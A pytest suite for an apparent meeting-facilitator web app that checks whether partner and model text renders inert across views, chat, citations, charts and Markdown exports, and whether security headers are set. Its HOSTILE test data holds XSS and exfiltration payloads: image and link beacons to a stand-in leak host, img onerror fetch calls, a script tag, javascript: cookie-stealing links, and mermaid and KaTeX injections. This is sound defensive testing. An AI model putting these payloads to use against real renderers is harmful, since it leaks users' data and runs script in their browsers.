"""What partners type and models write is shown inert: on the page (every view of ui/views.py), in the Markdown recap,
and in the text a move keeps (red-team finding "Exfiltration").

Rendered HTML is checked with markdown-it-py (CommonMark with raw HTML on, as permissive as a Markdown viewer gets):
it may hold only plain formatting elements, none with an attribute (`ol start` aside): no image, no link, no code
block with a language (Gradio's chat draws ```mermaid blocks as diagrams, whose renderer turns `&lt;img&gt;` back
into an <img>). The browser tests (tests/test_ui_exfiltration.py) check the same in the real page.
"""

from __future__ import annotations

import datetime as dt
import io
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from facilitator.textutil import safe_markdown

LEAK = "http://127.0.0.1:8765/leak"
PLAIN = {"p", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote", "br", "hr", "h1", "h2", "h3", "h4"}
PLAIN |= {"h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "s"}


class Elements(HTMLParser):
    """The start tags of an HTML fragment with their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def render(markdown: str) -> str:
    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown)


def unsafe_elements(markdown: str) -> list[Any]:
    """Elements of the rendered Markdown that could fetch, run, link or hand text to another renderer."""
    return [
        (tag, attrs)
        for tag, attrs in Elements(render(markdown)).tags
        if tag not in PLAIN
        or [a for a in attrs if (tag, a[0]) not in {("ol", "start"), ("th", "style"), ("td", "style")}]
    ]


def assert_inert(shown: str) -> None:
    assert unsafe_elements(shown) == [], (shown, render(shown))
    assert "```" not in shown and "~~~" not in shown, shown  # no code fence (```mermaid is a diagram) can open


HOSTILE = {
    "markdown image": f"look ![x]({LEAK}/md.png?d=secret) here",
    "image with a title in parentheses": f"![a]({LEAK}/p.png (title))",
    "image in a link": f"[![a]({LEAK}/i.png)]({LEAK}/l)",
    "reference image": f"![a][r]\n\n[r]: {LEAK}/ref.png",
    "reference image, definition over two lines": f"![a][r]\n\n[r]:\n  {LEAK}/ref.png",
    "reference link": f"[hidden][r]\n\n[r]: {LEAK}/l",
    "inline link": f'[ok]({LEAK}/p "t")',
    "javascript link": "[click](javascript:alert(document.cookie))",
    "javascript autolink": "<javascript:alert(1)>",
    "autolink": f"<{LEAK}/auto>",
    "raw img with onerror": f"<img src=x onerror=\"fetch('{LEAK}/onerror')\">",
    "raw img without quotes": f"<img/src={LEAK}/n2/onerror=alert(1)>",
    "long tag": f"<img src={LEAK}/long alt='{'x' * 300}'>",
    "script": "<script>fetch('http://127.0.0.1:8765/s')</script>",
    "svg": f"<svg><image href='{LEAK}/svg'/></svg>",
    "html comment": "<!-- hidden --> visible",
    "escaped img": f"&lt;img src={LEAK}/escaped&gt;",
    "numeric references": "&#33;&#91;x&#93;&#40;http://127.0.0.1:8765/refs&#41;",
    "entity-made fence": "&#96;&#96;&#96;mermaid\ngraph TD\n  A --> B\n&#96;&#96;&#96;",
    "mermaid with img": f'```mermaid\ngraph TD\n  A["<img src={LEAK}/mermaid>"] --> B\n```',
    "mermaid with escaped img": f'```mermaid\ngraph TD\n  A["&lt;img src={LEAK}/mermaid-esc&gt;"]\n```',
    "mermaid, tilde fence": f'~~~mermaid\ngraph TD\n  A["&lt;img src={LEAK}/tilde&gt;"]\n~~~',
    "mermaid, longer fence": f'````mermaid\ngraph TD\n  A["<img src={LEAK}/four>"]\n````',
    "mermaid, indented": f'   ```mermaid\n   graph TD\n   A["<img src={LEAK}/indent>"]\n   ```',
    "mermaid in a list": f'- ```mermaid\n  graph TD\n  A["&lt;img src={LEAK}/list&gt;"]\n  ```',
    "mermaid in a quote": f'> ```mermaid\n> graph TD\n> A["&lt;img src={LEAK}/quote&gt;"]\n> ```',
    "unfinished fence (a stream)": '```mermaid\ngraph TD\n  A["<img src=' + LEAK,
    "unfinished image (a stream)": f"![x]({LEAK}/partial",
    "katex href": f"$$\\href{{{LEAK}/katex}}{{click}}$$",
    "katex includegraphics": f"$$\\includegraphics{{{LEAK}/katex.png}}$$ and $\\foo$",
    "name": f"![n]({LEAK})",
    "control characters": "a\x00b\x1b[31mc\x7f",
    "lone surrogate (JSON \\ud800)": "a\ud800b <img src=x>",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_markdown_renders_inert(text: str) -> None:
    shown = safe_markdown(text)
    assert_inert(shown)
    assert "<" not in shown  # raw HTML is shown as text (escaped), never interpreted


@pytest.mark.parametrize(
    "key", ["markdown image", "reference image", "autolink", "long tag", "mermaid with img", "katex href", "name"]
)
def test_nothing_is_hidden_the_address_stays_visible_as_text(key: str) -> None:
    assert "127.0.0.1:8765" in render(safe_markdown(HOSTILE[key]))


def test_what_is_shown_keeps_its_meaning() -> None:
    shown = safe_markdown("I <3 this & that **plan**; 2 > 1; see `code` and a ```mermaid block")
    html = render(shown)
    assert "I &lt;3 this &amp; that <strong>plan</strong>" in html and "2 &gt; 1" in html
    assert "<code>code</code>" in html and "```mermaid" in html  # the fence is shown as text
    assert "image not shown: x" in safe_markdown("![x](http://h/p.png)")


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_escaping_twice_changes_nothing(text: str) -> None:
    """The summary panel escapes a recap whose fields were escaped already: the second pass must be a no-op."""
    once = safe_markdown(text)
    assert safe_markdown(once) == once


BITS = ["`", "```", "~~~", "~", "<", ">", "$", "$$", "\\", "[", "]", "(", ")", "![", "](", "]:", "!", "&", "#", "-"]
BITS += ["mermaid", "img src=", "onerror=", "&lt;", "&#96;", "&#33;", "&#91;", "&#93;", "&#40;", "http://h/p.png"]
BITS += ["\ud800", "\x00", "\x1b", "\r"]
BITS += ["javascript:", "\\href{", "}", "{", "\n", "\n\n", " ", "    ", "> ", "- ", "1. ", '"', "'", "a", "\t"]


@settings(max_examples=1500, deadline=None)
@given(st.lists(st.sampled_from(BITS), max_size=24).map("".join))
def test_no_text_built_from_the_special_characters_renders_anything_but_plain_formatting(text: str) -> None:
    shown = safe_markdown(text)
    assert_inert(shown)
    assert safe_markdown(shown) == shown


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(BITS), max_size=30).map("".join))
def test_every_prefix_of_a_streamed_reply_renders_inert(text: str) -> None:
    """The chat shows a streamed reply as it grows: each window, escaped whole, must be inert on its own."""
    for end in range(0, len(text) + 1, 3):
        assert_inert(safe_markdown(text[:end]))


@pytest.mark.parametrize("soup", ["![", "[](", "[a](", '![a](b "', "&lt;"])
def test_escaping_a_longest_message_of_bracket_soup_takes_linear_time(soup: str) -> None:
    """Every view re-escapes the whole conversation: one 8,000-character message must not cost seconds (the link
    and image patterns used to scan to the end of the text from every bracket: 1.5 s here)."""
    import time

    text = soup * (8000 // len(soup))
    start = time.perf_counter()
    shown = safe_markdown(text)
    assert time.perf_counter() - start < 0.5
    assert_inert(shown)


# ------------------------------------------------------------------------------------------- move text
def test_moves_keep_no_html_however_long_the_tag() -> None:
    from facilitator.moves import sanitize

    for text in (
        HOSTILE["lone surrogate (JSON \\ud800)"],
        HOSTILE["long tag"],
        HOSTILE["raw img with onerror"],
        HOSTILE["script"],
        f"<a href='{LEAK}' title='{'y' * 500}'>x</a>",
        HOSTILE["escaped img"],
    ):
        kept = sanitize(text)
        assert "<img" not in kept and "<a " not in kept and "<script" not in kept and "onerror" not in kept, kept
    assert sanitize("I <3 this & that; 2 > 1") == "I <3 this & that; 2 > 1"  # text stays as written
    assert "image removed" in sanitize(f"![x]({LEAK}/p.png)")


# ------------------------------------------------------------------------------------------ the views
N1 = f"![n]({LEAK}/name1)$\\foo$"
N2 = f"<img/src={LEAK}/name2/onerror=alert(1)>"


@pytest.fixture
def live(tmp_path: Path) -> Any:
    from facilitator.engine import Facilitator
    from facilitator.models import Pair, Participant, slug
    from facilitator.store import Store

    people = [
        Participant(id=slug(N1), name=f"{N1} Ana", role=HOSTILE["raw img with onerror"], offers=[HOSTILE["name"]]),
        Participant(id=slug(N2), name=f"{N2} Bea", role=HOSTILE["mermaid with img"], seeks=[HOSTILE["katex href"]]),
    ]
    pair = Pair(
        participants=people,
        shared_goals=[HOSTILE["markdown image"], HOSTILE["mermaid with img"]],
        cadence=HOSTILE["name"],
    )
    fac = Facilitator.offline(Store(f"sqlite:///{tmp_path / 'page.db'}"))
    session = fac.start(pair)
    agenda = session.plan_agenda(30).agenda
    session.use_agenda(agenda)
    for speaker, text in (
        (people[1].id, f"Could you send me the ![i]({LEAK}/item) checklist <img src={LEAK}/item2> by Friday?"),
        (people[0].id, f"Yes, I'll send you the ![i]({LEAK}/item) checklist <img src={LEAK}/item2> by Friday."),
    ):
        list(session.say(speaker, text))
    session.proposed_items()
    return SimpleNamespace(fac=fac, pair=pair, session=session)


def test_names_and_texts_in_every_markdown_view_are_inert(live: Any) -> None:
    from facilitator.engine import History
    from ui import views as ui

    pair, session = live.pair, live.session
    agenda = ui.agenda_view(session.view())
    assert "led by" in agenda and "image not shown" in agenda
    views = {"agenda": agenda, "pair": ui.pair_view(pair, "code", "http://127.0.0.1:7860/?pair=x")}
    for n in range(len(session.agenda.items)):  # every item in turn is the current one (its questions' addressees)
        session.state.agenda_item = n
        views[f"agenda item {n}"] = ui.agenda_view(session.view())
    views["chat"] = "\n\n".join(m["content"] for m in ui.chat_messages(session.view()))
    views["turn"] = ui.turn_message(pair, pair.ids[0], HOSTILE["mermaid with escaped img"])["content"]
    history = History(sessions=[], open_items=[v.item for v in session.items()])
    assert history.open_items
    views["history"] = ui.history_view(session.view().model_copy(update={"history": history}))
    for name, text in views.items():
        assert unsafe_elements(text) == [], (name, text)
        assert "```" not in text, (name, text)
    assert N1 not in views["history"] and "image not shown: n" in views["history"]


def test_a_cited_passage_and_its_title_are_inert() -> None:
    from facilitator.models import Citation, Move
    from ui import views

    quote = HOSTILE["raw img with onerror"] + HOSTILE["reference image"]
    citation = Citation(id="c0123456789", source=f"{LEAK}/source", title=HOSTILE["mermaid with img"], quote=quote)
    move = Move(kind="question", text="Look [c0123456789]", citations=[citation])
    [message] = views.move_messages(move)  # the passage is a footnote, from the quote the engine stored
    text = message["content"]
    assert "**Sources**" in text
    assert unsafe_elements(text) == [] and "```" not in text, text


def test_plain_text_widgets_show_names_as_written_and_control_characters_visibly(live: Any) -> None:
    """The commitments table (a Dataframe of "str" cells) and the item list (a Dropdown) show text, not Markdown."""
    from ui import views as ui

    pair, views = live.pair, live.session.view().items
    owner = views[0].item.owner
    first = pair.participant(owner).first_name
    assert ui.item_rows(pair, views)[0][1] == first and ui.item_choices(pair, views)[0][0].startswith(f"1. {first}: ")
    people = [p.model_copy(update={"name": "A\x1b[2J\x07x B"}) if p.id == owner else p for p in pair.participants]
    odd = pair.model_copy(update={"participants": people})
    cells = [str(c) for row in ui.item_rows(odd, views) for c in row] + [c[0] for c in ui.item_choices(odd, views)]
    assert not any("\x1b" in c or "\x07" in c for c in cells), cells
    assert ui.item_rows(odd, views)[0][1] == "A\\x1b[2J\\x07x"


@pytest.mark.parametrize("name", [N1, "$\\foo$", "$x^2$ and $", "\\$\\alpha$", "$$\\href{http://h}{x}$$"])
def test_the_balance_chart_draws_any_name_as_written(name: str) -> None:
    from facilitator.models import Balance, Pair, Participant, ParticipantBalance
    from ui import views

    pair = Pair(participants=[Participant(id="a", name=f"{name} A"), Participant(id="b", name="Bea")])
    balance = Balance(participants={"a": ParticipantBalance(word_share=0.6), "b": ParticipantBalance(word_share=0.4)})
    fig = views.balance_figure(pair, balance)
    fig.savefig(io.BytesIO(), format="png")  # mathtext is never parsed: `$\foo$` used to raise here
    left, right = fig.axes
    for labels in (left.get_yticklabels(), right.get_xticklabels()):
        shown = [label.get_text() for label in labels]
        assert [label._preprocess_math(label.get_text())[1] for label in labels] == [False, False]
        first = [s.replace("\\$", "$") for s in shown]
        assert name.split()[0].startswith(first[0].removesuffix("…")) and first[1] == "Bea", first  # long: clipped


def test_every_markdown_widget_has_latex_off_and_html_sanitized(tmp_path: Path) -> None:
    import gradio as gr

    from facilitator.engine import Facilitator
    from facilitator.store import Store
    from ui.app import build_app

    demo = build_app(Facilitator.offline(Store(f"sqlite:///{tmp_path / 'app.db'}")))
    widgets = [b for b in demo.blocks.values() if isinstance(b, gr.Markdown | gr.Chatbot)]
    assert len(widgets) >= 5
    for widget in widgets:
        assert widget.latex_delimiters == [], widget  # KaTeX off: no $$...$$ rendering that skips the sanitizer
        assert widget.sanitize_html is True, widget
    for table in (b for b in demo.blocks.values() if isinstance(b, gr.Dataframe)):
        kinds = table.datatype if isinstance(table.datatype, list) else [table.datatype]
        assert not {"markdown", "html"} & set(kinds), table  # cells are shown as text


# ------------------------------------------------------------------------------------------ the export
def test_the_markdown_recap_is_inert_in_a_permissive_viewer() -> None:
    from facilitator.export import export_summary
    from facilitator.models import Assumption, Balance, Commitment, Participant, ParticipantBalance, Summary, Turn

    people = [Participant(id="a", name=f"{N1} Ana"), Participant(id="b", name=f"{N2} Bea")]
    turns = [Turn(index=0, speaker="a", text=HOSTILE["raw img with onerror"] + " " + HOSTILE["markdown image"])]
    summary = Summary(
        date=dt.date(2026, 3, 4),
        summary="<img src=x onerror=alert(1)> " + HOSTILE["mermaid with img"] + "\n" + HOSTILE["reference image"],
        commitments=[
            Commitment(owner="a", action=HOSTILE["long tag"] + " | " + HOSTILE["markdown image"], evidence=[0]),
            Commitment(owner="b", action=HOSTILE["script"] + HOSTILE["javascript link"], evidence=[]),
        ],
        decisions=[HOSTILE["autolink"], HOSTILE["mermaid in a list"]],
        assumptions=[Assumption(speaker="b", turn=0, text=HOSTILE["svg"] + HOSTILE["katex href"])],
        balance=Balance(participants={"a": ParticipantBalance(words=3), "b": ParticipantBalance(words=1)}),
        warnings=[HOSTILE["raw img without quotes"]],
    )
    recap = export_summary(summary, people, turns, "md").decode()
    html = render(recap)
    assert "<img" not in html and "<script" not in html and "<svg" not in html and "<a " not in html, html
    assert unsafe_elements(recap) == [], unsafe_elements(recap)
    assert not [a for _tag, attrs in Elements(html).tags for a in attrs if a[0].startswith("on")]  # no handler
    assert "```" not in recap and "~~~" not in recap
    assert "| Owner | Action |" in recap and "image not shown" in recap  # still a readable recap
    assert sum(line.startswith("| ") for line in recap.splitlines()) == 2 + 2 + 2  # header+rows, both tables


# ------------------------------------------------------------------------------------------ the headers
def test_the_security_headers_are_on_every_response_even_an_error() -> None:
    """The middleware `serve()` installs (the browser test checks the running app): routes, 404s and the 500 that
    Starlette sends outside the middleware all carry the headers; a header a route set is replaced, not doubled."""
    from starlette.applications import Starlette
    from starlette.responses import PlainTextResponse
    from starlette.routing import Route
    from starlette.testclient import TestClient

    from ui import security

    def page(_request: Any) -> PlainTextResponse:
        return PlainTextResponse("ok", headers={"Content-Security-Policy": "img-src *"})

    def broken(_request: Any) -> PlainTextResponse:
        raise RuntimeError("boom")

    app = Starlette(routes=[Route("/", page), Route("/broken", broken)], **security.app_kwargs())
    client = TestClient(app, raise_server_exceptions=False)
    for path, status in (("/", 200), ("/missing", 404), ("/broken", 500)):
        response = client.get(path)
        assert response.status_code == status
        assert response.headers.get_list("content-security-policy") == [security.CONTENT_SECURITY_POLICY], path
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["referrer-policy"] == "no-referrer"
    policy = security.CONTENT_SECURITY_POLICY
    assert "img-src 'self' data: blob:" in policy and "frame-ancestors 'none'" in policy
    assert "http" not in policy and "*" not in policy
